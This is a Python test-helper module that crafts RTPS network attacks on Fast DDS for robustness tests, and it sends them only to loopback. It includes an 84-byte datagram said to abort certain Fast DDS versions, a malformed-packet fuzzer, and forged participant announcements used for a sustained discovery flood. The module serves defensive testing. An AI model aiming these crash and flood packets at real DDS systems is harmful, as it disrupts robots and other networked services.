"""The network attacks on Fast DDS that no rsg participant may die of (docs/fastdds-versions.md,
"What no packet can do"), shared by integration.dds_attacks, make test-image and make test-service.

Only loopback is ever a target: every datagram goes to 127.0.0.1."""

import os
import random
import socket
import struct
import time

STATISTICS = 0x80
VENDOR_EPROSIMA = b"\x01\x0f"
GUARD_ACTIONS = ("statistics_removed", "statistics_misplaced", "send_channel_opened", "destination_skipped",
                 "announcement_refused", "lease_shortened")

# A participant profile as a site might write one: readers on a unicast and a multicast locator.
# Fast DDS 2.9.1 to 3.1.2 then send to a locator they opened no channel for.
TWO_LOCATORS_PROFILE = "two_locators"
TWO_LOCATORS_XML = """<?xml version="1.0" encoding="UTF-8"?>
<dds xmlns="http://www.eprosima.com/XMLSchemas/fastRTPS_Profiles">
  <profiles>
    <participant profile_name="two_locators">
      <rtps>
        <defaultUnicastLocatorList>
          <locator><udpv4><address>127.0.0.1</address></udpv4></locator>
        </defaultUnicastLocatorList>
        <defaultMulticastLocatorList>
          <locator><udpv4><address>239.255.100.1</address></udpv4></locator>
        </defaultMulticastLocatorList>
      </rtps>
    </participant>
  </profiles>
</dds>
"""


def rtps_header(rng):
    return b"RTPS" + b"\x02\x03" + VENDOR_EPROSIMA + rng.randbytes(12)


def submessage(identifier, body, little_endian=True):
    flags = 0x01 if little_endian else 0x00
    return bytes([identifier, flags]) + struct.pack("<H" if little_endian else ">H", len(body)) + body


def one_datagram(rng=random.Random(36)):
    """84 bytes: header, a 56-byte statistics submessage, then a PAD that makes it not the last.
    Aborts Fast DDS 2.9.1 and 3.1.2 as Debian builds them (read_statistics_submessage)."""
    datagram = rtps_header(rng) + submessage(STATISTICS, bytes(56)) + submessage(0x01, b"")
    assert len(datagram) == 84
    return datagram


def random_datagram(rng):
    """An eProsima RTPS header and up to six submessages of likely and unlikely kinds, statistics ones
    (mostly of the right length) anywhere, lengths that sometimes lie, either endianness."""
    parts = [rtps_header(rng)]
    for _ in range(rng.randint(0, 6)):
        identifier = rng.choice([STATISTICS, STATISTICS, 0x01, 0x06, 0x07, 0x09, 0x0E, 0x12, 0x15, 0x16,
                                 rng.randrange(256)])
        size = 56 if identifier == STATISTICS and rng.random() < 0.7 else rng.randint(0, 80)
        body = rng.randbytes(size)
        little = rng.random() < 0.8
        if rng.random() < 0.1:
            parts.append(bytes([identifier, int(little)]) +
                         struct.pack("<H" if little else ">H", rng.randrange(65536)) + body)
        else:
            parts.append(submessage(identifier, body, little))
    return b"".join(parts)


def random_datagrams(count, seed=36):
    rng = random.Random(seed)
    return [random_datagram(rng) for _ in range(count)]


def domain_ports(domain):
    """Every UDP port bound on this network namespace in the domain's range (RTPS 2.x, 9.6.1.1: 7400 +
    250 × domain and the 250 after it). The unicast ports are one participant's each, so every
    participant of the domain gets what is sent to them; the discovery multicast port is shared, and
    a unicast datagram to it reaches only one of its sockets."""
    first = 7400 + 250 * domain
    ports = set()
    for table in ("/proc/net/udp", "/proc/net/udp6"):
        with open(table) as rows:
            next(rows)
            for row in rows:
                port = int(row.split()[1].rsplit(":", 1)[1], 16)
                if first <= port < first + 250:
                    ports.add(port)
    return sorted(ports)


def send_to_domain(domain, datagrams):
    """Each datagram to every port of the domain on 127.0.0.1 and to the discovery multicast group
    (every participant of the domain on this host), at most about 10,000 datagrams a second."""
    ports = domain_ports(domain)
    assert ports, f"no UDP port of domain {domain} is bound"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_LOOP, 1)
        for index, datagram in enumerate(datagrams):
            for port in ports:
                sender.sendto(datagram, ("127.0.0.1", port))
            try:
                sender.sendto(datagram, ("239.255.0.1", 7400 + 250 * domain))
            except OSError:
                pass  # no multicast route on this host: the unicast ports above still reach everyone
            if index % 100 == 99:
                time.sleep(0.01)


def guard_counts(samples, value_of):
    """{action: count} of rsg_dds_guard_total in parsed /metrics samples."""
    return {action: value_of(samples, "rsg_dds_guard_total", action=action) for action in GUARD_ACTIONS}


def _parameter(pid, value):
    value += bytes(-len(value) % 4)
    return struct.pack("<HH", pid, len(value)) + value


def _locator(port):
    return struct.pack("<iI", 1, port) + bytes(12) + bytes([127, 0, 0, 1])  # UDPv4 127.0.0.1:port


def participant_announcement(domain, guid_prefix, port):
    """An SPDP DATA(p) of a participant that does not exist: its own GUID, the longest lease, its
    locators on 127.0.0.1:`port` (where nothing listens). Every one makes a Fast DDS participant of the
    domain keep a remote participant until the lease ends."""
    payload = b"\x00\x03\x00\x00"  # PL_CDR_LE
    payload += _parameter(0x0015, bytes([2, 3]))                                   # PID_PROTOCOL_VERSION
    payload += _parameter(0x0016, VENDOR_EPROSIMA)                                 # PID_VENDORID
    payload += _parameter(0x000F, struct.pack("<I", domain))                       # PID_DOMAIN_ID
    payload += _parameter(0x0050, guid_prefix + b"\x00\x00\x01\xc1")               # PID_PARTICIPANT_GUID
    payload += _parameter(0x0032, _locator(port))                                  # PID_METATRAFFIC_UNICAST_LOCATOR
    payload += _parameter(0x0031, _locator(port + 1))                              # PID_DEFAULT_UNICAST_LOCATOR
    payload += _parameter(0x0002, struct.pack("<iI", 0x7FFFFFFF, 0xFFFFFFFF))      # PID_PARTICIPANT_LEASE_DURATION
    payload += _parameter(0x0058, struct.pack("<I", 0x00000C3F))                   # PID_BUILTIN_ENDPOINT_SET
    payload += struct.pack("<HH", 0x0001, 0)                                       # PID_SENTINEL
    # DATA: extraFlags, octetsToInlineQos 16, reader ENTITYID_SPDP_BUILTIN_RTPSParticipant_READER,
    # writer ..._WRITER, sequence number 1 (high, low).
    data = struct.pack("<HH", 0, 16) + bytes.fromhex("000100c7") + bytes.fromhex("000100c2") + \
        struct.pack("<iI", 0, 1) + payload
    return b"RTPS" + b"\x02\x03" + VENDOR_EPROSIMA + guid_prefix + _data_submessage(data)


def _data_submessage(body):
    """DATA with E (little endian) and D (serialized data) flags."""
    return bytes([0x15, 0x05]) + struct.pack("<H", len(body)) + body


def udp_ports_of(pid):
    """The UDP ports process `pid` has bound (its sockets' inodes looked up in /proc/net/udp*)."""
    inodes = set()
    fd_dir = f"/proc/{pid}/fd"
    for fd in os.listdir(fd_dir):
        try:
            target = os.readlink(f"{fd_dir}/{fd}")
        except OSError:
            continue
        if target.startswith("socket:["):
            inodes.add(target[8:-1])
    ports = set()
    for table in ("/proc/net/udp", "/proc/net/udp6"):
        with open(table) as rows:
            next(rows)
            for row in rows:
                fields = row.split()
                if fields[9] in inodes:
                    ports.add(int(fields[1].rsplit(":", 1)[1], 16))
    return sorted(ports)


def spoof_participants(domain, count, ports, seed=39):
    """`count` announcements of made-up participants, each to every one of `ports` on 127.0.0.1."""
    rng = random.Random(seed)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        for index in range(count):
            datagram = participant_announcement(domain, rng.randbytes(12), 40000 + index % 1000 * 2)
            for port in ports:
                sender.sendto(datagram, ("127.0.0.1", port))
            if index % 50 == 49:
                time.sleep(0.01)


def spoof_participants_for(domain, count, ports, seconds, period_s, seed=40):
    """The same `count` made-up participants re-announced every `period_s` for `seconds`, from one
    socket: a sustained discovery flood."""
    rng = random.Random(seed)
    datagrams = [participant_announcement(domain, rng.randbytes(12), 42000 + index % 1000 * 2)
                 for index in range(count)]
    deadline = time.monotonic() + seconds
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        while time.monotonic() < deadline:
            started = time.monotonic()
            for datagram in datagrams:
                for port in ports:
                    sender.sendto(datagram, ("127.0.0.1", port))
            time.sleep(max(0.0, period_s - (time.monotonic() - started)))


def answers_new_participant(domain, listen_port, ports, timeout_s=3.0):
    """True when a participant listening on `ports` answers a new participant's announcement (it sends
    its own to the newcomer's metatraffic locator, 127.0.0.1:`listen_port`) within `timeout_s`."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as listener, \
            socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        listener.bind(("127.0.0.1", listen_port))
        listener.settimeout(timeout_s)
        announcement = participant_announcement(domain, random.randbytes(12), listen_port)
        for port in ports:
            sender.sendto(announcement, ("127.0.0.1", port))
        try:
            return listener.recvfrom(65536)[0].startswith(b"RTPS")
        except socket.timeout:
            return False
